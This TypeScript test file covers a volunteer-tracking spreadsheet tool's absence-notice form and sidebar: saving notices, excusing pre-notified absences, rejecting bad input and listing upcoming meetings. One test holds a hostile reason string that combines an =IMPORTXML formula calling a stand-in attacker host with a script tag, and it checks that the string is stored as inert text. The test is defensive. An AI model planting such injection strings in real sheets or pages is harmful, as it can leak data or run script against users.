import { describe, it, expect } from 'vitest';
import { evaluateCil } from '../../../shared/accountability';
import { accountabilityTab } from '../../../shared/records/accountability';
import { attendanceTab } from '../../../shared/records/attendance';
import { deliverablesTab } from '../../../shared/records/deliverable';
import { hoursTab } from '../../../shared/records/hours';
import { meetingsTab, type Meeting } from '../../../shared/records/meeting';
import { noticesTab, type Notice } from '../../../shared/records/notice';
import { readSettings } from '../../../shared/records/settings';
import { volunteersTab } from '../../../shared/records/volunteer';
import { sheetState } from '../as-lead';
import { newSandbox, runOk } from '../built-bundle';
import { volunteerNamed } from '../daily-run-fixture';
import { expectFormSavesWith, expectOneWrite, noFormulas, openSidebar, refusedWith, rows, saveOk, setUpDemo, type Demo } from './form-fixture';

// "Log absence notice…": a volunteer told the lead they cannot come; the notice goes in the Notices
// tab as given now, for a meeting that has not started (only then is it prior notice to the rules).

/** A meetup next Saturday evening, recorded through the meeting form. */
function upcomingMeetup(demo: Demo): Meeting {
  return saveOk<Meeting>(demo, 'recordMeeting', { kind: 'CIL meetup', title: 'December meetup', startsAt: '2026-12-05 18:00', endsAt: '2026-12-05 20:00' }).saved.record;
}

describe('logAbsenceNotice', () => {
  it('appends one notice, given and received now, from the form, in one write', () => {
    const demo = setUpDemo();
    const meetup = upcomingMeetup(demo);
    const sana = volunteerNamed(demo, 'Sana Iqbal');

    const { saved, result } = saveOk<Notice>(demo, 'logAbsenceNotice', { volunteerId: sana.id, meetingId: meetup.id, reason: 'Family wedding' });

    const expected = {
      id: expect.stringMatching(/^n-[0-9a-f]{8}$/),
      volunteerId: sana.id,
      kind: 'absence notice',
      givenAt: '2026-11-27T05:00:00.000Z',
      meetingId: meetup.id,
      reason: 'Family wedding',
      source: 'form',
      receivedAt: '2026-11-27T05:00:00.000Z',
    };
    expect(saved.record).toEqual(expected);
    expect(rows(demo, noticesTab).at(-1)).toEqual(expected);
    expect(saved.message).toBe(`Logged Sana Iqbal's notice of absence from "December meetup" (2026-12-05 18:00) in row ${saved.rowNumber} of Notices.`);
    expectOneWrite(result, noticesTab.columns.length);
  });

  it('is prior notice to the rules: the missed meetup does not count against the volunteer', () => {
    const demo = setUpDemo();
    const meetup = upcomingMeetup(demo);
    const sana = volunteerNamed(demo, 'Sana Iqbal');
    saveOk(demo, 'logAbsenceNotice', { volunteerId: sana.id, meetingId: meetup.id });
    const settings = readSettings(sheetState(demo.sandbox, demo.spreadsheetId, 'Settings').values);
    if (!settings.ok) throw new Error(settings.message);
    // The day after the meetup, which nobody attended: Sana's absence is excused by the notice alone.
    const missesOf = (notices: readonly Notice[]) =>
      evaluateCil({
        volunteers: rows(demo, volunteersTab),
        meetings: rows(demo, meetingsTab),
        attendance: rows(demo, attendanceTab),
        notices,
        hours: rows(demo, hoursTab),
        deliverables: rows(demo, deliverablesTab),
        log: rows(demo, accountabilityTab),
        today: '2026-12-06',
        now: '2026-12-06T05:00:00.000Z',
        settings: settings.settings,
      })
        .volunteers.find((volunteer) => volunteer.volunteerId === sana.id)!
        .consecutiveMisses.map((miss) => miss.id);
    const notices = rows(demo, noticesTab);
    expect(missesOf(notices.filter((notice) => notice.meetingId !== meetup.id))).toContain(meetup.id);
    expect(missesOf(notices)).not.toContain(meetup.id);
  });

  it('refuses a meeting that has started, and says why', () => {
    const demo = setUpDemo();
    const past = rows(demo, meetingsTab).find((meeting) => meeting.kind === 'CIL meetup')!;
    const sana = volunteerNamed(demo, 'Sana Iqbal');
    expect(refusedWith(demo, 'logAbsenceNotice', { volunteerId: sana.id, meetingId: past.id })).toMatch(
      new RegExp(`^Cannot log the absence notice: "CIL meetup" started at \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d; a notice given now would not count as prior notice \\(the rules count only notices given before a meeting starts\\)\\. Nothing was written\\.$`),
    );
  });

  it('refuses an unknown or departed volunteer, an unknown meeting, and a second notice of the same absence', () => {
    const demo = setUpDemo();
    const meetup = upcomingMeetup(demo);
    const omar = volunteerNamed(demo, 'Omar Farooq');
    expect(refusedWith(demo, 'logAbsenceNotice', { volunteerId: 'v-nobody', meetingId: 'm-nothing' })).toBe(
      'Cannot log the absence notice: no volunteer with the ID v-nobody is on the roster; no meeting with the ID m-nothing is in the Meetings tab. Nothing was written.',
    );
    expect(refusedWith(demo, 'logAbsenceNotice', { volunteerId: 'v 1', meetingId: meetup.id })).toBe(
      'Cannot log the absence notice: "Volunteer ID" must be letters, digits and - _ . : with no spaces (found "v 1"). Nothing was written.',
    );
    runOk(demo.sandbox, 'addVolunteer', [{ name: 'Gone Soon', email: 'gone@example.org', role: 'member', status: 'alumni' }, demo.cilId]);
    const gone = volunteerNamed(demo, 'Gone Soon');
    expect(refusedWith(demo, 'logAbsenceNotice', { volunteerId: gone.id, meetingId: meetup.id })).toBe(
      'Cannot log the absence notice: Gone Soon is alumni, so no meeting expects them. Nothing was written.',
    );
    const { saved } = saveOk(demo, 'logAbsenceNotice', { volunteerId: omar.id, meetingId: meetup.id });
    expect(refusedWith(demo, 'logAbsenceNotice', { volunteerId: omar.id, meetingId: meetup.id, reason: 'again' })).toBe(
      `Cannot log the absence notice: there is already a notice of this absence (row ${saved.rowNumber} of Notices). Nothing was written.`,
    );
  });

  it('keeps a hostile reason as text', () => {
    const demo = setUpDemo();
    const meetup = upcomingMeetup(demo);
    const reason = '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>';
    saveOk(demo, 'logAbsenceNotice', { volunteerId: volunteerNamed(demo, 'Sana Iqbal').id, meetingId: meetup.id, reason });
    expect(rows(demo, noticesTab).at(-1)!.reason).toBe(reason);
    noFormulas(demo, 'Notices');
  });
});

describe('the "Log absence notice…" sidebar', () => {
  it('offers the volunteers on the roster and only the meetings still to come', () => {
    const demo = setUpDemo();
    const meetup = upcomingMeetup(demo);
    const { title, html } = openSidebar(demo, 'openAbsenceNoticeSidebar');
    expect(title).toBe('Log absence notice');
    expectFormSavesWith(html, 'logAbsenceNotice');
    // The demo's December CfP call and morning meetup, then the one just recorded: soonest first, none past.
    const options = [...html.matchAll(/<option value="(m-[^"]+)">([^<]*)<\/option>/g)].map((match) => match[2]);
    expect(options).toEqual(['Monthly CfP call, December · monthly CfP call · 2026-12-01 18:00', 'CIL meetup · CIL meetup · 2026-12-05 11:00', 'December meetup · CIL meetup · 2026-12-05 18:00']);
    expect(html).toContain(`<option value="${meetup.id}">`);
    const sana = volunteerNamed(demo, 'Sana Iqbal');
    expect(html).toContain(`<option value="${sana.id}">Sana Iqbal (${sana.email})</option>`);
    // Alphabetical: Ali Hassan first.
    expect(html.indexOf('Ali Hassan')).toBeLessThan(html.indexOf('Ayesha Khan'));
  });

  it('explains that a meeting must be recorded first when none is coming up', () => {
    const sandbox = newSandbox();
    const { cilId, spreadsheetId } = runOk<{ cilId: string; spreadsheetId: string }>(sandbox, 'setUpCil', [{ name: 'CIL <Quetta>' }]);
    const { html } = openSidebar({ sandbox, cilId, spreadsheetId }, 'openAbsenceNoticeSidebar');
    expect(html).not.toContain('<form');
    expect(html).toContain('No meeting of <strong>CIL &lt;Quetta&gt;</strong> is coming up in the Meetings tab');
  });
});
